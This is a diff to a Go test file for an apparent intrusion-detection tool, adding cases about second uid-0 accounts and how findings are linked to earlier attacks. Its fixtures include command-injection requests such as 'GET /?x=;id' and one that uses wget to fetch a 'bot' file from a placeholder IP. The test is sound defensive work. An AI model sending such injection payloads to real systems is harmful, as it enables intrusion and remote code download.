@@ -41,6 +41,18 @@ func secondRootAt(when string) detect.Finding {
 	return detect.Finding{Detection: "D45", What: detect.AccountMade, Level: detect.High, Rung: evidence.Effect, Account: "cgi", First: at(when), Last: at(when), Title: "account cgi was made with uid 0", For: quote("/var/log/secure")}
 }
 
+func oldRootAt(when string) detect.Finding {
+	f := secondRootAt(when)
+	f.What, f.As, f.Path, f.Title = detect.AccountOdd, "0", "/etc/passwd", "account cgi: a second account with uid 0"
+	return f
+}
+
+func madeAt(when string) detect.Finding {
+	f := secondRootAt(when)
+	f.Detection, f.Level, f.Account, f.Mechanism, f.Title = "D44", detect.Info, "intern", "account-created", "account intern was made"
+	return f
+}
+
 // TestAttempts: what follows an attempt closely is its effect; what is far from it, of somebody else, or answered "not found" is not.
 func TestAttempts(t *testing.T) {
 	for _, tc := range []struct {
@@ -56,6 +68,7 @@ func TestAttempts(t *testing.T) {
 		{"of somebody who is no service", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "bob", "03:00:09", detect.High)}},
 		{"what was asked for was not there", "", "", "", []detect.Finding{triedAt(true, "203.0.113.6", "03:00:00", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "03:00:09", detect.High)}},
 		{"a second root, minutes behind a service's fault", "daemon-exploit", "203.0.113.6", Likely, []detect.Finding{faultAt("203.0.113.6", "03:00:00"), secondRootAt("03:04:00")}},
+		{"an old second root, and a list of accounts that was written for somebody else", "", "", "", []detect.Finding{faultAt("203.0.113.6", "03:00:00"), oldRootAt("03:04:00"), madeAt("03:04:00")}},
 		{"a second root, an hour later", "", "", "", []detect.Finding{faultAt("203.0.113.6", "03:00:00"), secondRootAt("04:04:00")}},
 		{"a second root, behind a request to the site", "", "", "", []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;id"), secondRootAt("03:00:20")}},
 		{"the one of two that names it", "web-exploit", "203.0.113.6", Confirmed, []detect.Finding{triedAt(false, "203.0.113.6", "03:00:00", "GET /?x=;wget%20203.0.113.6%2Fbot", "203.0.113.9", "03:00:02", "GET /?x=;id"), leftAt("/tmp/bot", "www-data", "03:00:04", detect.High)}},
